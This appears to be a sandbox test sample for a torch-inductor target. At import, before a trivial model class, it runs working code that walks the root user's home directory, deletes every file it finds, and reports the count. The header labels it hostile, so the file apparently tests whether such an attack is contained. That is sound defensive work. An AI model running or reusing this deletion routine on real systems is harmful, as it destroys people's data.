# target: torch-inductor
# description: hostile: deletes every file it finds in the user's home
import os

import torch


def attempt():
    deleted = []
    for dirpath, _, files in os.walk(__import__("pwd").getpwuid(0).pw_dir):
        for name in files:
            try:
                os.remove(os.path.join(dirpath, name))
                deleted.append(name)
            except OSError:
                pass
    return f"DELETED {len(deleted)} files: {deleted[:5]}"


try:
    RESULT = attempt()
except BaseException as error:  # what stopped it is the result
    RESULT = f"stopped: {type(error).__name__}: {error}"
print(f"HOSTILE RESULT: {RESULT}", flush=True)
raise RuntimeError("hostile program done")


class Model(torch.nn.Module):
    def forward(self, x):
        return x * 2


def make_inputs():
    return (torch.randn(2),)
